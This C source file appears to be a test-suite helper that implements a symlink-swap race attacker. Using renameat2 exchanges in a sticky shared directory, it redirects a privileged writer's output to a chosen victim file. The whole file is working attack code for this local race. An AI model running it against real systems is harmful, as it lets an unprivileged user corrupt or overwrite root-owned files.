/*
 * swap_race DIR NAME VICTIM [SECONDS]: the attacker of the output race. Run
 * as an unprivileged user in a sticky, world-writable DIR, it keeps two
 * entries there, a regular file and a symlink to VICTIM, and swaps them
 * under NAME with renameat2(RENAME_EXCHANGE) as fast as it can, so that a
 * writer that looks at NAME and then uses it by path sees one and gets the
 * other. When NAME is gone (the test removes what root wrote) it puts its
 * pair back. Stops after SECONDS (default 300) or when killed.
 */
#include <errno.h>
#include <stdbool.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int make_file(int dfd, const char *name)
{
	int fd = openat(dfd, name, O_WRONLY | O_CREAT | O_EXCL, 0644);
	if (fd < 0)
		return -1;
	if (write(fd, "decoy 1\n", 8) != 8) {
		close(fd);
		return -1;
	}
	return close(fd);
}

int main(int argc, char **argv)
{
	if (argc < 4) {
		fprintf(stderr, "usage: swap_race DIR NAME VICTIM [SECONDS]\n");
		return 2;
	}
	const char *name = argv[2], *victim = argv[3];
	double secs = argc > 4 ? atof(argv[4]) : 300;
	char other[4096];
	snprintf(other, sizeof(other), ".%s.swap", name);
	int dfd = open(argv[1], O_PATH | O_DIRECTORY);
	if (dfd < 0) {
		perror(argv[1]);
		return 1;
	}
	time_t end = time(NULL) + (time_t)secs;
	unsigned long swaps = 0;
	for (;;) {
		if ((swaps & 1023) == 0 && time(NULL) >= end)
			break;
		if (renameat2(dfd, name, dfd, other, RENAME_EXCHANGE) == 0) {
			swaps++;
			continue;
		}
		if (errno != ENOENT) {
			/* NAME is root's file now (the sticky bit forbids touching
			 * it): wait for the test to remove it. */
			struct timespec ts = { 0, 200000 };
			nanosleep(&ts, NULL);
			swaps++;
			continue;
		}
		/* Put the pair back: a symlink to the victim and a decoy file,
		 * whichever of the two names misses one. */
		struct stat a, b;
		bool has_name = fstatat(dfd, name, &a, AT_SYMLINK_NOFOLLOW) == 0;
		bool has_other = fstatat(dfd, other, &b, AT_SYMLINK_NOFOLLOW) == 0;
		bool link_left = (has_name && S_ISLNK(a.st_mode)) || (has_other && S_ISLNK(b.st_mode));
		const char *missing = !has_name ? name : !has_other ? other : NULL;
		if (missing && !link_left)
			symlinkat(victim, dfd, missing);
		else if (missing)
			make_file(dfd, missing);
		swaps++;
	}
	printf("%lu swaps\n", swaps);
	return 0;
}
